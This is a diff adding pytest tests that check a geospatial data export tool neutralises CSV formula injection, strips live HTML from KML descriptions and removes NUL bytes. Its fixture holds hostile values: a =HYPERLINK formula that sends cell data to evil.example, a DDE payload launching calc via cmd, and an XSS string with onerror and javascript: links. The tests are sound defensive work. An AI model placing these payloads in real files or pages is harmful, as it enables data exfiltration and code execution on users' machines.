@@ -168,3 +168,116 @@ def test_exports_are_byte_for_byte_reproducible(tmp_path, assembly, fmt):
     time.sleep(1.1)  # a timestamp written by GDAL would now differ
     export(assembly, fmt, second)
     assert first.read_bytes() == second.read_bytes()
+
+
+# --- Formulas, live HTML and NUL: read back by a parser. ---
+
+HOSTILE_SUMMARY = (
+    '<img src=x onerror="alert(1)"><a href="javascript:alert(2)">click</a> & <b>bold</b>'
+)
+
+
+@pytest.fixture
+def hostile_data(basic_data):
+    import csv as csv_module
+
+    path = basic_data / "events.csv"
+    with open(path, newline="", encoding="utf-8") as handle:
+        rows = list(csv_module.DictReader(handle))
+    rows[0].update(
+        title='=HYPERLINK("https://evil.example/?"&A1,"Click")', summary=HOSTILE_SUMMARY,
+        carrier="+cmd|' /C calc'!A0", evidence="before\x00after the NUL",
+    )
+    rows[1].update(actors="@SUM(1+1); -2+3; Conviasa", carrier="-2+3")
+    rows[2].update(carrier="-12.5")  # a plain number is data, not a formula
+    with open(path, "w", newline="", encoding="utf-8") as handle:
+        writer = csv_module.DictWriter(handle, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    return basic_data
+
+
+def _csv_rows(text: str) -> dict:
+    import csv as csv_module
+    import io
+
+    return {row["id"]: row for row in csv_module.DictReader(io.StringIO(text))}
+
+
+def test_csv_export_neutralises_formulas_and_raw_keeps_them(hostile_data, tmp_path):
+    out = tmp_path / "events.csv"
+    base = ["export", "--data", str(hostile_data), "--format", "csv"]
+    assert CliRunner().invoke(cli, [*base, "-o", str(out)]).exit_code == 0
+    rows = _csv_rows(out.read_text(encoding="utf-8"))
+    assert rows["tanker-to-cardon"]["title"] == (
+        '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    )
+    assert rows["tanker-to-cardon"]["carrier"] == "'+cmd|' /C calc'!A0"
+    assert rows["air-bridge"]["actors"] == "'@SUM(1+1); -2+3; Conviasa"
+    assert rows["air-bridge"]["carrier"] == "'-2+3"
+    assert rows["visit-tachira"]["carrier"] == "-12.5"
+    assert rows["tanker-to-cardon"]["wkt"].startswith("LINESTRING (")  # no prefix on data
+    leading = {c[0] for row in rows.values() for c in row.values() if c and c != "-12.5"}
+    assert not leading & set("=+-@\t\r")
+    raw = CliRunner().invoke(cli, [*base, "--raw", "-o", "-"])
+    assert raw.exit_code == 0
+    raw_rows = _csv_rows(raw.stdout)
+    assert raw_rows["tanker-to-cardon"]["title"].startswith("=HYPERLINK(")
+    assert raw_rows["air-bridge"]["actors"] == "@SUM(1+1); -2+3; Conviasa"
+
+
+def test_kml_descriptions_are_text_not_live_html(hostile_data, tmp_path):
+    import html.parser
+    import xml.etree.ElementTree as ET
+
+    out = tmp_path / "events.kml"
+    result = CliRunner().invoke(
+        cli, ["export", "--data", str(hostile_data), "--format", "kml", "-o", str(out)]
+    )
+    assert result.exit_code == 0, result.output
+    ns = {"k": "http://www.opengis.net/kml/2.2"}
+    placemarks = ET.parse(out).getroot().findall(".//k:Placemark", ns)
+    assert len(placemarks) == 4
+    description = placemarks[0].find("k:description", ns).text
+
+    class Elements(html.parser.HTMLParser):
+        def __init__(self):
+            super().__init__()
+            self.tags, self.attributes, self.text = [], [], []
+
+        def handle_starttag(self, tag, attrs):
+            self.tags.append(tag)
+            self.attributes.extend(attrs)
+
+        def handle_data(self, data):
+            self.text.append(data)
+
+    # A viewer renders the description as HTML: only the template's <p> elements may appear,
+    # with no attributes, and the data shows as the literal text it is.
+    parser = Elements()
+    parser.feed(description)
+    assert set(parser.tags) == {"p"}
+    assert parser.attributes == []
+    assert HOSTILE_SUMMARY in "".join(parser.text)
+    frame = pyogrio.read_dataframe(out)
+    assert frame["Name"][0] == '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+
+
+@pytest.mark.parametrize("fmt", ["gpkg", "kml", "geojson", "csv"])
+def test_nul_is_removed_the_same_way_in_every_format(hostile_data, tmp_path, fmt):
+    out = tmp_path / f"events.{fmt}"
+    result = CliRunner().invoke(
+        cli, ["export", "--data", str(hostile_data), "--format", fmt, "-o", str(out)]
+    )
+    assert result.exit_code == 0, result.output
+    if fmt == "geojson":
+        doc = json.loads(out.read_text(encoding="utf-8"))
+        evidence = doc["features"][0]["properties"]["evidence"]
+    elif fmt == "csv":
+        evidence = _csv_rows(out.read_text(encoding="utf-8"))["tanker-to-cardon"]["evidence"]
+    elif fmt == "kml":
+        evidence = pyogrio.read_dataframe(out)["evidence"][0]
+    else:
+        frame = pyogrio.read_dataframe(out, layer="events_lines")
+        evidence = frame.set_index("id").loc["tanker-to-cardon", "evidence"]
+    assert evidence == "beforeafter the NUL"  # as the map shows it (safety.clean_text)
